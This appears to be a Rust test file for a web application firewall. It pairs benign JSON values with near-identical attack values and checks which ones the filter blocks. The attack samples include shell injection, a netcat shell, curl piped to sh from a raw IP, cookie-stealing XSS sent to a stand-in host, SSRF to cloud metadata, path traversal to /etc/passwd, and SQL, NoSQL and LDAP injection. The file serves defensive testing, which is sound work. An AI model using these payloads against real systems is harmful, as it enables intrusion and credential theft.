//! Values that are honest where they stand, each beside an attack that comes close to it.

use super::look;
use crate::waf::{Settings, Verdict};

/// Name of a JSON member, a value that passes under it, and one that does not.
const PAIRS: &[(&str, &str, &str)] = &[
    (
        "url",
        "redis://:secret@10.0.0.9:6379/0",
        "redis://10.0.0.9:6379/0",
    ),
    (
        "q",
        "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example%2F&h=",
        "https://l.evil.example/l.php?u=https%3A%2F%2Fshop.example%2F&h=",
    ),
    ("q", "ping 1.1.1.1 high latency", "ping -c 4 127.0.0.1"),
    (
        "text",
        "const { exec } = require('child_process');\nexec('git rev-parse HEAD', (err, stdout) => log(stdout));",
        "const { exec } = require('child_process');\nexec('whoami', (err, stdout) => log(stdout));",
    ),
    (
        "text",
        "$sql = \"SELECT * FROM users WHERE id = \" . $_GET['id'];",
        "include $_GET['id'];",
    ),
    (
        "text",
        "<img src=\"foo.jpg\" onerror=\"this.onerror=null;this.src='/img/none.png'\">",
        "<img src=\"foo.jpg\" onerror=\"this.onerror=null;this.src='//a.example/'+document.cookie\">",
    ),
    (
        "text",
        "tar xzf a.tar.gz -C /opt && ls -la /opt | grep app",
        "tar xzf a.tar.gz -C /opt && ls -la /root | grep app",
    ),
    (
        "text",
        "rm -f *.o app; find . -name '*~' -delete",
        "rm -f *.o app; find / -name '*~'; id",
    ),
    (
        "text",
        "curl -fsSL https://get.docker.com | sh",
        "curl -fsSL http://203.0.113.5/x | sh",
    ),
    (
        "text",
        "for /f \"tokens=2\" %%a in ('hostname') do set name=%%a",
        "for /f \"tokens=2\" %a in ('hostname') do set name=%a",
    ),
    ("text", "for %%f in (*.jpg) do (", ";for %f in (*.jpg) do ("),
    (
        "q",
        "https://github.com/Seldaek/monolog/blob/main/src/Monolog/Handler/StreamHandler.php",
        "https://github.com.evil.example/Seldaek/monolog/blob/main/src/Monolog/Handler/StreamHandler.php",
    ),
    (
        "text",
        "name\n  Location: http://docs.example.org/",
        "name\nLocation: http://docs.example.org/",
    ),
    (
        "embed_code",
        "<script src=\"https://cdn.example.com/chat.js\"></script>",
        "<script>alert(1)</script>",
    ),
    (
        "text",
        "```html\n<script src=\"https://www.promisejs.org/promise-6.1.0.js\"></script>\n```",
        "<script src=\"https://www.promisejs.org/promise-6.1.0.js\"></script>",
    ),
    (
        "text",
        "alert(\"Data berhasil disimpan!\");",
        "alert(\"disimpan\");",
    ),
    (
        "text",
        "if (!confirm('Hapus data ini?')) return false;",
        ";confirm('Hapus data ini?')",
    ),
    (
        "text",
        "prompt('Your name, please:')",
        "prompt('You were hacked')",
    ),
    (
        "text",
        "alert('Terima kasih, data disimpan')",
        "alert('Data disimpan' + document.cookie)",
    ),
    (
        "text",
        "I want to open a link in a new window with a confirm box:\n\n<a href=\"javascript:void(0)\" \
         onclick=\"if(confirm('Sure?')) window.open('https://example.com','_blank')\">Go</a>\n\nIs there a better way?",
        "I want to open a link in a new window with a confirm box:\n\n<a href=\"javascript:void(0);eval(x)\" \
         onclick=\"if(confirm('Sure?')) window.open('https://example.com','_blank')\">Go</a>\n\nIs there a better way?",
    ),
    (
        "settings.value",
        "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}\
         gtag('js',new Date());gtag('config','G-1');</script>",
        "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}\
         gtag('js',new Date());send(1);</script>",
    ),
    (
        "text",
        "<script src=\"https://code.jquery.com/jquery-3.7.1.min.js\"></script>",
        "<script src=\"https://code.jquery.com.evil.example/jquery-3.7.1.min.js\"></script>",
    ),
    (
        "text",
        "UPDATE produk SET harga = harga * 1.1 WHERE kategori = 'sepatu' AND stok > 0;",
        "UPDATE anggota SET role = 'admin' WHERE kategori = 'sepatu' AND stok > 0;",
    ),
    (
        "text",
        "const pkg = JSON.parse(await readFile(new URL('../settings.yml', import.meta.url)));",
        "const pkg = JSON.parse(await readFile(new URL('../settings.yml', url)));",
    ),
    (
        "text",
        "open('../data/x.csv', encoding='utf-8').read()",
        "open('../data/x.key', encoding='utf-8').read()",
    ),
    (
        "text",
        "tail -n 100 storage/logs/app.log",
        "tail -n 100 config/app.php",
    ),
    (
        "text",
        "ldap://dc1.example.com:389",
        "ldap://dc1.example.com:389/a",
    ),
    (
        "messages.content",
        "Explain this: SELECT * FROM users WHERE name = '' OR '1'='1' --",
        "<script>alert(1)</script> <- explain this",
    ),
    ("text", "{{ request.path }}", "{{ request.environ }}"),
    ("text", "//94", "//2130706433/"),
    (
        "text",
        "http://127.0.0.1:51004/?code=abc&state=xyz",
        "http://127.0.0.1:51004/?cmd=abc&state=xyz",
    ),
    (
        "text",
        "Line 12: chmod -R 755 storage && chown -R www-data storage",
        "Line 12: chmod -R 755 storage && cat storage/app.key",
    ),
    ("text", "@@61", "@@hostname"),
    ("text", "/bin/bash", "/bin/bash -c id"),
    (
        "text",
        "The exam: (a) 3 < 5; (b) x <= 2 or x >= 4.",
        "2 or id >= 4",
    ),
    ("text", "/var/log/shop/*.log", "/var/log/nginx/*.log"),
    (
        "text",
        "There's a chmod for that: `find . -type d -exec chmod 755 {} \\; && find . -type f -delete`",
        "There's a chmod for that: `find . -type d -exec chmod 755 {} \\; && cat /etc/hosts`",
    ),
    (
        "server",
        "ldaps://dc1.example.com",
        "ldaps://evil.example/a",
    ),
    (
        "url",
        "jdbc:postgresql://localhost:5432/app",
        "postgresql://localhost:5432/app",
    ),
    (
        "text",
        "<button class=\"btn\" onclick=\"addToCart(<%= product.id %>)\">Buy</button>",
        "<button class=\"btn\" onclick=\"addToCart(<%= product.id %>);alert(1)\">Buy</button>",
    ),
    (
        "text",
        "<li><?= $row['nama'] ?></li>",
        "<li><?= $row['nama']($_GET['x']) ?></li>",
    ),
    (
        "text",
        "echo \"<script>alert('Login berhasil'); window.location='dashboard.php';</script>\";",
        "<script>alert('Login berhasil'); window.location='dashboard.php';</script>",
    ),
    ("commits.modified", ".htaccess", "../../../../etc/passwd"),
    ("files", ".env.example", ".env"),
    (
        "env.REDIS_URL",
        "redis://cache:6379/0",
        "redis://cache:6379/0;$(id)",
    ),
    (
        "generatorURL",
        "http://prom:9090/graph?g0.expr=up",
        "http://prom:6379/",
    ),
    (
        "generatorURL",
        "http://localhost:9090/graph",
        "http://169.254.169.254/",
    ),
    (
        "url",
        "https://example.com/",
        "http://prom:9090/graph?g0.expr=up",
    ),
    (
        "query.bool.filter.script.script.source",
        "doc['stock'].value > params.min",
        "doc['stock'].value",
    ),
    (
        "aggs.net.bucket_script.script",
        "params.a - params.b",
        "ctx._source.role = 'admin'",
    ),
    (
        "description",
        "&lt;p&gt;Grant asked me to revoke all of it.&lt;/p&gt;",
        "1;grant dba to scott",
    ),
    (
        "q",
        "SELECT Id, Email FROM Account WHERE Name LIKE 'Acme%' LIMIT 10",
        "SELECT Id, Password FROM Account WHERE Name LIKE 'Acme%' LIMIT 10",
    ),
    (
        "q",
        "char(13) + char(10) sql server line break",
        "char(97) + char(98)",
    ),
    (
        "q",
        "cat /etc/os-release ubuntu version",
        "cat /etc/os-release;id ubuntu version",
    ),
    (
        "q",
        "xpath //div[@class='price']/text()",
        "xpath' or //div[@class='price']/text()='a",
    ),
    ("alerts.labels.mountpoint", "/var/lib/docker", "/etc/passwd"),
    ("q", "cat /dev/null joke", "cat /etc/passwd joke"),
    (
        "q",
        "information_schema.columns snowflake",
        "information_schema.columns",
    ),
    (
        "text",
        "In T-SQL: IF EXISTS (SELECT 1 FROM sys.tables WHERE name = 'x') DROP TABLE x",
        "'; IF EXISTS (SELECT 1 FROM sys.tables WHERE name = 'x') DROP TABLE x",
    ),
    (
        "text",
        "Runtime rt = Runtime.getRuntime();\nSystem.out.println(rt.freeMemory());",
        "Runtime rt = Runtime.getRuntime();\nrt.exec(\"id\");",
    ),
    (
        "text",
        "db.users.updateMany({ last: { $lt: 5 } }, { $set: { active: false } })",
        "db.users.updateMany({ last: { $lt: 5 } }, { $set: { role: 'admin' } })",
    ),
    ("text", "system(\"pause\");", "system(\"pause & id\");"),
    (
        "text",
        "Answer 3: SELECT name FROM a WHERE x >= 3.5 UNION SELECT name FROM b;",
        "3 UNION SELECT name FROM b;",
    ),
    (
        "text",
        "kill -9 $(lsof -t -i:3000) if the port is in use",
        "kill -9 $(cat /root/pid) if the port is in use",
    ),
    ("text", "<?php tag", "<?php system('id')"),
    (
        "text",
        "<?= $this->Html->link('Home', ['action' => 'index']) ?>",
        "<?= $this->Html->system('id') ?>",
    ),
    (
        "text",
        "document.cookie = \"theme=dark; path=/; max-age=31536000\" sets it",
        "document.cookie = \"sid=dark; path=/; max-age=31536000\" sets it",
    ),
    (
        "q",
        "http://localhost:8000/callback",
        "http://localhost:8000/admin",
    ),
    (
        "url",
        "http://10.0.3.14:8080/healthz",
        "http://10.0.3.14:6379/healthz",
    ),
    // What the name of a member says that it holds.
    ("cwd", "/etc/nginx", "/etc/passwd"),
    ("cwd", "/var/www/html/app", "/etc/nginx; cat /etc/hosts"),
    ("agent.log_path", "/var/log/app", "../../../../var/log/app"),
    (
        "extends",
        "../../.eslintrc.json",
        "../../../../../.eslintrc.json",
    ),
    ("shell", "/bin/bash", "/bin/bash -c id"),
    ("containers.command", "/bin/sh", "/bin/sh;id"),
    ("containers.command", "/bin/sh", "sh -c id"),
    (
        "process.command_line",
        "/bin/bash -c 'cd /srv/app && npm start'",
        "/bin/bash -c 'cat /etc/passwd'",
    ),
    ("cmdline", "/usr/bin/node server.js", "; cat /etc/hosts"),
    (
        "breadcrumbs.values.data.url",
        "http://10.0.0.4:8000/price",
        "http://169.254.169.254/latest/",
    ),
    (
        "context.exception.file",
        "/var/www/html/vendor/Db.php:70",
        "/etc/passwd",
    ),
    (
        "exception.file",
        "/var/www/html/a.php",
        "../../../../var/www/html/a.php",
    ),
    ("file.error", "all is well", "/var/www/html/a.php"),
    (
        "db.volumes",
        "/var/lib/mysql:/var/lib/mysql",
        "/etc/passwd:/x",
    ),
    (
        "log.entries.request.url",
        "http://192.168.1.5/admin",
        "http://169.254.169.254/admin",
    ),
    (
        "vars.REDIS_URL",
        "redis://localhost:6379",
        "gopher://169.254.169.254:6379/_x",
    ),
    (
        "RelayState",
        "http://localhost:8080/",
        "http://localhost:6379/",
    ),
    (
        "q",
        "http://localhost:3000/api/users returns 404",
        "http://localhost:3000/api/users?x=1",
    ),
    ("q", "Alert(2020_film)", "Alert(2020)"),
    (
        "text",
        "ipconfig /all menunjukkan DNS 192.168.1.1",
        "ipconfig /all",
    ),
    (
        "text",
        "CREATE TABLE IF NOT EXISTS users (id INT AUTO_INCREMENT PRIMARY KEY, name VARCHAR(100));",
        "CREATE TABLE users (id INT PRIMARY KEY, name VARCHAR(100)); DROP TABLE users;",
    ),
    (
        "text",
        "INSERT INTO users (name, email) VALUES ('Ann', 'ann@example.com');",
        "INSERT INTO users (name, role) VALUES ('Ann', 'admin');",
    ),
    (
        "allowed_origins",
        "http://localhost:3000,http://127.0.0.1:8000",
        "http://localhost:6379",
    ),
    (
        "ldap_filter",
        "(&(objectClass=person)(uid=%u))",
        "*)(uid=*))(|(uid=%u)",
    ),
    // What a shell or a language reads to its end first, and finds none.
    (
        "text",
        "cd .. && ls -la; if it's empty, look in /var/log/nginx/error.log",
        "cd .. && ls -la; if its empty, look in /var/log/nginx/error.log",
    ),
    (
        "text",
        "run `npm ci && npm test` first; then cat dist/index.html",
        "run `npm ci && npm test` first; cat dist/index.html",
    ),
    (
        "text",
        "php -r \"phpinfo();\" prints nothing",
        "phpinfo();?> prints nothing",
    ),
    ("q", "nc -l 1234 file transfer", "nc -l 1234 -e /bin/sh"),
    (
        "command",
        "/usr/bin/php /var/www/app/artisan queue:work --stop-when-empty >> /var/log/q.log 2>&1",
        "/usr/bin/php -r 'system(\"id\");' >> /var/log/q.log 2>&1",
    ),
    (
        "command",
        "pg_dump -U app shop | gzip > /var/backups/shop-$(date +%F).sql.gz",
        "pg_dump -U app shop | gzip > /var/backups/shop-$(id).sql.gz",
    ),
    (
        "text",
        "ALTER TABLE customers ADD COLUMN phone VARCHAR(20);",
        "ALTER TABLE customers ADD COLUMN phone VARCHAR(20); DROP TABLE customers;",
    ),
    (
        "text",
        "mongo: db.users.find({age:{$gt:30}})",
        "x' || db.users.find({age:{$gt:30}})",
    ),
    ("q", "<?php or <? which one", "<?php or <?= `id` ?>"),
    // What tools and interpreters take for commands and files.
    (
        "text",
        "The manual explains write18 on page 4",
        "\\immediate\\write18{id > /tmp/o}",
    ),
    (
        "file",
        "my.ini is where it is set",
        "C:\\ProgramData\\MySQL\\my.ini",
    ),
    (
        "file",
        "classpath: what is it",
        "classpath:../application-prod.yml",
    ),
    (
        "id",
        "1 and (see the list)",
        "1 and f((select password from users limit 1))",
    ),
    (
        "id",
        "3 offset (see below)",
        "3 offset (select password from users limit 1)",
    ),
    ("file", "database.yml", "config/database.yml"),
    ("code", "system.exit(0) ends it", "System.exit(0)"),
    (
        "text",
        "the id` of from users",
        "id` from users union select password as `id",
    ),
];

/// Names of members that a store's own interface has, and that an application's look-ups must not.
const OPERATORS: &[(&str, bool)] = &[
    ("pipeline.$match.status", false),
    ("selector.year.$gt", false),
    ("pipeline.$lookup.from", true),
    ("selector.$where", true),
    ("password.$gt", true),
    ("password.$type", true),
    ("shape.$type", false),
    ("user.selector.$gt", true),
    ("range.price.$gte", false),
    ("range.name.$gte", true),
    ("range.price.$ne", true),
];

#[test]
fn queries_that_a_store_takes_whole_have_its_names() {
    for (name, is_stopped) in OPERATORS {
        let mut body = serde_json::json!("a");
        for member in name.rsplit('.') {
            body = serde_json::json!({ member: body });
        }
        let body = body.to_string();
        let body = Some(("application/json", body.as_bytes()));
        let report = look(&Settings::default(), "/items", "", &[], body);
        assert_eq!(report.verdict == Verdict::Blocked, *is_stopped, "{name}");
    }
}

#[test]
fn a_program_may_stand_beside_the_name_of_its_language() {
    let code = "print(__import__('os').popen('ls -la').read())";
    for (body, is_stopped) in [
        (
            serde_json::json!({ "language": "python", "code": code }),
            false,
        ),
        (
            serde_json::json!({ "code": code, "lang": "python3" }),
            false,
        ),
        (serde_json::json!({ "code": code }), true),
        (serde_json::json!({ "language": "id", "code": code }), true),
        (
            serde_json::json!({ "language": "python", "name": code }),
            true,
        ),
        (
            serde_json::json!({ "language": "js", "code": "<script>alert(1)</script>" }),
            true,
        ),
    ] {
        let body = body.to_string();
        let sent = Some(("application/json", body.as_bytes()));
        let report = look(&Settings::default(), "/run", "", &[], sent);
        assert_eq!(report.verdict == Verdict::Blocked, is_stopped, "{body}");
    }
}

#[test]
fn what_comes_close_is_told_apart() {
    for (name, honest, attack) in PAIRS {
        for (value, verdict) in [(honest, false), (attack, true)] {
            let mut body = serde_json::json!(value);
            for member in name.rsplit('.') {
                body = serde_json::json!({ member: body });
            }
            let body = body.to_string();
            let report = look(
                &Settings::default(),
                "/items",
                "",
                &[],
                Some(("application/json", body.as_bytes())),
            );
            assert_eq!(
                report.verdict == Verdict::Blocked,
                verdict,
                "{body}: {report:?}"
            );
        }
    }
}
